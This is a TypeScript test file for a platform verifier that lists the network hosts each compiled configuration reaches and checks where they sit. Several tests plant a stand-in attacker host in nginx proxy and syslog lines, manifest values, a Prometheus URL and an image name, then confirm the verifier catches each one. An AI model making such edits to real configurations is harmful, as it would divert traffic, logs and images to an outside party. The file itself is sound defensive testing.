import { describe, expect, it } from 'vitest';
import { compileConfig } from '../../../src/compile.ts';
import type { PlatformConfig } from '../../../src/config/platform-config.ts';
import type { Dist } from '../../../src/verify/dist.ts';
import { flowsOf, isTransfer } from '../../../src/verify/flows/flows.ts';
import { readDist } from '../../../src/verify/read/dist.ts';
import { flowsNamed } from '../../../src/verify/rules/platform/flows-named.ts';
import { verify } from '../../../src/verify/verify.ts';
import { cases } from '../../cases/index.ts';

function textsOf(config: PlatformConfig): Map<string, string> {
  const { artifacts } = compileConfig(config, 'platform.config.ts');
  return new Map(artifacts.map(({ path, text }) => [path, text]));
}

function distOf(config: PlatformConfig): Dist {
  const [dist] = readDist(textsOf(config));
  if (dist === undefined) throw new Error('the platform cannot be read back');
  return dist;
}

/** One of test/cases/. */
function caseOf(name: string): PlatformConfig {
  const config = cases[name];
  if (config === undefined) throw new Error(`no case ${name}`);
  return config;
}

const reference = caseOf('reference');

const ids = (config: PlatformConfig) => flowsOf(distOf(config)).map(({ id }) => id);

describe('the flows of a platform', () => {
  it('are those of the reference, each known by hand', () =>
    expect(ids(reference)).toEqual([
      'certificates/acme-v02.api.letsencrypt.org',
      'dns/machine',
      'function-images/ghcr.io',
      'functions/anywhere',
      'images/docker.io',
      'images/ghcr.io',
      'k3s-installer/raw.githubusercontent.com',
      'k3s/github.com',
      'nodes/oslo-1',
      'packages/deb.debian.org',
      'packages/security.debian.org',
      'start-check/checkip.amazonaws.com',
      'time/debian.pool.ntp.org',
    ]));

  it('are those of every option', () =>
    expect(ids(caseOf('every-option'))).toEqual([
      'alerts/dead-mans-switch',
      'alerts/hook',
      'alerts/mail',
      'alerts/phone',
      'alerts/team',
      'backups/s3',
      'backups/ssh',
      'cdn/cloudflare',
      'certificates/acme-staging-v02.api.letsencrypt.org',
      'dns/192.0.2.53',
      'dns/198.51.100.53',
      'function-images/ghcr.io',
      'functions/anywhere',
      'functions/resize/kauppa.example',
      'images/ghcr.io',
      'images/mirror.example.fi',
      'k3s/mirror.example.fi',
      'nginx/mirror.example.fi',
      'nodes/helsinki-1',
      'packages/deb.debian.org',
      'packages/security.debian.org',
      'proxy/proxy.example.fi',
      'scripts/files.example.fi',
      'start-check/checkip.amazonaws.com',
      'time/debian.pool.ntp.org',
    ]));

  it.each(Object.entries(cases))('have names of their own: %s', (_, config) => {
    const all = ids(config);
    expect(new Set(all).size).toBe(all.length);
  });

  it('take the Git host and the charts', () =>
    expect(ids(caseOf('gitops'))).toEqual(
      expect.arrayContaining(['git/git.example.no', 'charts/flux2/fluxcd-community.github.io']),
    ));

  it('keep a place that nothing is known of unknown, which is no place inside', () => {
    const flow = flowsOf(distOf(caseOf('gitops'))).find(({ id }) => id === 'git/git.example.no');
    expect([flow?.country, flow?.owner, flow?.source]).toEqual([undefined, undefined, undefined]);
    expect(flow && isTransfer(flow)).toBe(true);
  });

  it('take the country of a node and the owner of its provider', () =>
    expect(flowsOf(distOf(reference)).find(({ id }) => id === 'nodes/oslo-1')).toMatchObject({
      country: 'NO',
      ownerCountry: 'NO',
      verdict: 'inside',
      path: ['nodes', 'oslo-1'],
    }));
});

describe('a host that no flow leads to', () => {
  it.each(Object.entries(cases))('is in no file of %s', (_, config) =>
    expect(flowsNamed.check(distOf(config))).toEqual([]),
  );

  const edits: [string, path: string, from: string | RegExp, to: string][] = [
    [
      'nginx',
      'nginx/openfaas.conf',
      'proxy_pass http://openfaas_gateway;',
      'proxy_pass http://evil.example.org;',
    ],
    ['a log', 'nginx/nginx.conf', /error_log [^;]+;/, 'error_log syslog:server=evil.example.org:514;'],
    ['env', 'manifests/60-functions.yaml', 'value: NOK', 'value: https://evil.example.org'],
    [
      'an image',
      'manifests/60-functions.yaml',
      'ghcr.io/nordpay/export-ledger',
      'evil.example.org/export-ledger',
    ],
    [
      'a config map',
      'manifests/20-prometheus.yaml',
      'scrape_interval:',
      'url: https://evil.example.org\n    scrape_interval:',
    ],
    ['stack.yaml', 'stack.yaml', 'LEDGER_CURRENCY: NOK', 'LEDGER_CURRENCY: https://evil.example.org'],
  ];
  it.each(edits)('is found in %s', (_, path, from, to) => {
    const texts = textsOf(reference);
    const text = texts.get(path)?.replace(from, to) ?? '';
    expect(text).toContain('evil.example.org');
    const [dist] = readDist(new Map([...texts, [path, text]]));
    const found = dist === undefined ? [] : flowsNamed.check(dist);
    const line = text.split('\n').findIndex((one) => one.includes('evil.example.org')) + 1;
    const at = found.find(({ artifact }) => artifact?.path === path);
    // What a manifest names beside stack.yaml is also a flow of the function, if stack.yaml names it.
    if (path === 'stack.yaml') expect(found).toEqual([]);
    else
      expect([at?.message, at?.artifact?.line]).toEqual([expect.stringContaining('evil.example.org'), line]);
  });

  it('may be in a comment', () => {
    const texts = textsOf(reference);
    const path = 'manifests/60-functions.yaml';
    const text = `# https://evil.example.org\n${texts.get(path)}`;
    const [dist] = readDist(new Map([...texts, [path, text]]));
    expect(dist && flowsNamed.check(dist)).toEqual([]);
  });
});

it('a dist/ on disk is held to the rules in its lock file', () => {
  const texts = textsOf(reference);
  const lock =
    texts.get('platform.lock.json')?.replace('"flow": "function-images/ghcr.io"', '"host": "quay.io"') ?? '';
  const found = verify(new Map([...texts, ['platform.lock.json', lock]])).map(({ code }) => code);
  expect(found).toEqual(expect.arrayContaining(['verify/flow-foreign', 'verify/exception-unused']));
});
